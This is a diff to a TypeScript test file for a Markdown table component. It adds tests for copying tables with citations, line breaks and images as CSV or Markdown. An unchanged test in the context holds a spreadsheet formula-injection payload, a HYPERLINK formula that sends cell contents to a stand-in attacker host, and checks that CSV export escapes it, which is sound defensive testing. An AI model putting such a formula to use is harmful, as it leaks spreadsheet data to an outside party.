@@ -25,6 +25,14 @@ async function copied(element: UbikMarkdown, name: string): Promise<string> {
   return text;
 }
 
+/** A complete text with citations. */
+async function cited(text: string, offsets: readonly number[]): Promise<UbikMarkdown> {
+  const element = await stream([text]);
+  element.marks = offsets.map(offset => ({offset, source: 's', label: '1'}));
+  await element.updateComplete;
+  return element;
+}
+
 describe('a table in Markdown', () => {
   it('can be copied as CSV, with quotes where necessary', async () => {
     expect(await copied(await stream([table]), 'Copy as CSV')).to.equal(
@@ -61,6 +69,32 @@ describe('a table in Markdown', () => {
     const formula = await stream(['|a|\n|-|\n|=HYPERLINK("https://evil.example/?"&A1,"ok")|\n']);
     expect(await copied(formula, 'Copy as CSV')).to.equal(
       'a\r\n"\'=HYPERLINK(""https://evil.example/?""&A1,""ok"")"',
+    );
+  });
+
+  it('is copied as CSV without citations, with line ends, and with the words of its images', async () => {
+    const rows = '| City | Population[^1] |\n|-|-|\n| a<br>b | 3.7 |\n';
+    const images = '| ![c](https://a.example/c.png)![](https://a.example/d.png) | 4 |\n';
+    const picture = '| ![e](data:image/png;base64,iVBORw0KGgo=) | 5 |\n';
+    const text = `${rows}${images}${picture}\n[^1]: f`;
+    const element = await cited(text, [text.indexOf('3.7') + 3, text.indexOf('4 |') + 1]);
+    expect(all(element, 'td .citation')).to.have.length(2);
+    expect(await copied(element, 'Copy as CSV')).to.equal(
+      'City,Population\r\n"a\nb",3.7\r\nc,4\r\ne,5',
+    );
+  });
+
+  it('has a citation behind a row in its last cell, and is copied as Markdown without it', async () => {
+    const text = '| a | b |\n| - | - |\n| c | d |\n';
+    const element = await cited(text, [text.indexOf('\n'), text.length - 1]);
+    expect(all(element, 'th, td').map(cell => cell.textContent)).to.deep.equal([
+      'a',
+      'b1',
+      'c',
+      'd1',
+    ]);
+    expect(await copied(element, 'Copy as Markdown')).to.equal(
+      '| a | b |\n| --- | --- |\n| c | d |',
     );
   });
 
